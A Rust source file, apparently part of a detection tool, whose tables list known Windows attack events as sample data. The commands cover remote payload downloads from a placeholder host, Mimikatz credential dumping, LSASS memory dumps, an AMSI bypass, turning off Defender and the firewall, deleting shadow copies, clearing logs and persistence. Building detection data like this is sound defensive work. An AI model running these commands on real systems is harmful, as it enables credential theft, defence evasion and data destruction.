//! Values of the few events that some rule is about: known techniques, written down as their publishers describe them.

/// Parent image, image, original file name, arguments.
pub(super) static PROCESSES: &[(&str, &str, &str, &str)] = &[
    (
        r"C:\Program Files (x86)\Microsoft Office\root\Office16\WINWORD.EXE",
        r"C:\Windows\System32\cmd.exe",
        "Cmd.Exe",
        r"/c start {w}.bat",
    ),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\vssadmin.exe", "VSSADMIN.EXE", "delete shadows /all /quiet"),
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\certutil.exe",
        "CertUtil.exe",
        r"-urlcache -split -f http://{o}/{w}.exe C:\Users\{u}\AppData\Local\Temp\{w}.exe",
    ),
    (r"C:\Windows\explorer.exe", r"C:\Windows\System32\mshta.exe", "MSHTA.EXE", "http://{o}/{w}.hta"),
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\schtasks.exe",
        "schtasks.exe",
        r"/create /tn {w} /tr C:\Users\{u}\AppData\Roaming\{w}.exe /sc minute /mo {d2} /f",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\rundll32.exe",
        "RUNDLL32.EXE",
        r"C:\Windows\System32\comsvcs.dll, MiniDump {d3} C:\Windows\Temp\{w}.dmp full",
    ),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\whoami.exe", "whoami.exe", "/priv"),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\net1.exe", "net1.exe", "group \"Domain Admins\" /domain"),
    (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "PowerShell.EXE",
        "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    ),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\wevtutil.exe", "wevtutil.exe", "cl Security"),
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\reg.exe",
        "reg.exe",
        r"add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {w} /t REG_SZ /d C:\Users\Public\{w}.exe /f",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\bitsadmin.exe",
        "bitsadmin.exe",
        r"/transfer {w} http://{o}/{w}.exe C:\Users\Public\{w}.exe",
    ),
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\System32\wscript.exe",
        "wscript.exe",
        r#""C:\Users\{u}\Downloads\{w}.js""#,
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\regsvr32.exe",
        "REGSVR32.EXE",
        "/s /u /i:http://{o}/{w}.sct scrobj.dll",
    ),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\nltest.exe", "nltestrk.exe", "/domain_trusts /all_trusts"),
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\netsh.exe",
        "netsh.exe",
        "advfirewall set allprofiles state off",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\bcdedit.exe",
        "bcdedit.exe",
        "/set {default} recoveryenabled no",
    ),
    (r"C:\Windows\System32\inetsrv\w3wp.exe", r"C:\Windows\System32\cmd.exe", "Cmd.Exe", "/c whoami"),
    (r"C:\Windows\System32\services.exe", r"C:\Windows\System32\cmd.exe", "Cmd.Exe", r"/C echo {w} > \\.\pipe\{w}"),
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Users\Public\procdump64.exe",
        "procdump",
        "-accepteula -ma lsass.exe {w}.dmp",
    ),
];

/// Image and key of a value set, and its details.
pub(super) static VALUES: &[(&str, &str, &str)] = &[
    (
        r"C:\Users\{u}\AppData\Local\Temp\{w}.exe",
        r"HKU\{s}\Software\Microsoft\Windows\CurrentVersion\Run\{w}",
        r"C:\Users\Public\{w}.exe",
    ),
    (
        r"C:\Windows\System32\reg.exe",
        r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware",
        "DWORD (0x00000001)",
    ),
    (
        r"C:\Windows\System32\reg.exe",
        r"HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential",
        "DWORD (0x00000001)",
    ),
    (
        r"C:\Windows\System32\reg.exe",
        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA",
        "DWORD (0x00000000)",
    ),
];

/// Image and file.
pub(super) static FILES: &[(&str, &str)] = &[
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Users\{u}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\{w}.bat",
    ),
    (r"C:\Windows\System32\Taskmgr.exe", r"C:\Users\{u}\AppData\Local\Temp\lsass.DMP"),
    (r"C:\Windows\System32\wscript.exe", r"C:\Users\Public\{w}.vbs"),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"C:\Users\{u}\AppData\Local\Temp\Invoke-Mimikatz.ps1",
    ),
];

pub(super) static SCRIPTS: &[&str] = &[
    "IEX (New-Object Net.WebClient).DownloadString('http://{o}/{w}.ps1'); Invoke-Mimikatz -DumpCreds",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    "Get-NetLocalGroup -ComputerName {h}; Invoke-ShareFinder -CheckShareAccess",
];

pub(super) static PIPES: &[&str] = &[r"\postex_{x4}", r"\msagent_{x2}", r"\PSEXESVC"];
